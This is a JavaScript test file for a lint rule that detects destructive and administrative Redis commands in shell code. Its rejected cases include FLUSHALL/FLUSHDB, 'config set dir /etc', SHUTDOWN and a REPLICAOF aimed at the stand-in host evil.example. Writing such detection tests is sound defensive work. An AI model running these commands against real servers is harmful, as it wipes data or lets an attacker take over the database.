import rule from '../../rules/command-redis-destructive/index.js';
import { ruleTester } from '../helpers/rule-tester.js';

ruleTester(rule, {
  accept: [
    'redis-cli set swarm:state shutdown',
    'redis-cli -n 2 get flushall',
    'redis-cli config get dir',
    'redis-cli client list',
    'redis-cli script load "$(cat s.lua)"',
    'echo "redis-cli flushall"',
    '# redis-cli FLUSHDB\necho ok',
  ],
  reject: [
    {
      code: 'redis-cli FLUSHALL',
      errors: [{ messageId: 'flush', severity: 'error', line: 1, column: 1, endColumn: 19, message: /`redis-cli FLUSHALL`/ }],
    },
    {
      name: 'after options and their values',
      code: 'redis-cli -h 127.0.0.1 -p 6379 -n 3 flushdb async',
      errors: [{ messageId: 'flush', line: 1, column: 1 }],
    },
    {
      name: 'config set',
      code: 'redis-cli config set dir /etc',
      errors: [{ messageId: 'admin', line: 1, column: 1, message: /`redis-cli CONFIG SET`/ }],
    },
    { name: 'replicaof', code: 'valkey-cli REPLICAOF evil.example 6379', errors: [{ messageId: 'admin', line: 1, column: 1 }] },
    {
      name: 'shutdown inside bash -c',
      code: "bash -c 'redis-cli shutdown'",
      errors: [{ messageId: 'admin', line: 1, column: 10, endColumn: 28 }],
    },
    { name: 'through a variable', code: 'R="redis-cli -n 1"\n$R flushdb', errors: [{ messageId: 'flush', line: 2, column: 1 }] },
    {
      name: 'script flush behind timeout',
      code: 'timeout 2 redis-cli SCRIPT FLUSH',
      errors: [{ messageId: 'admin', line: 1, column: 11 }],
    },
  ],
});
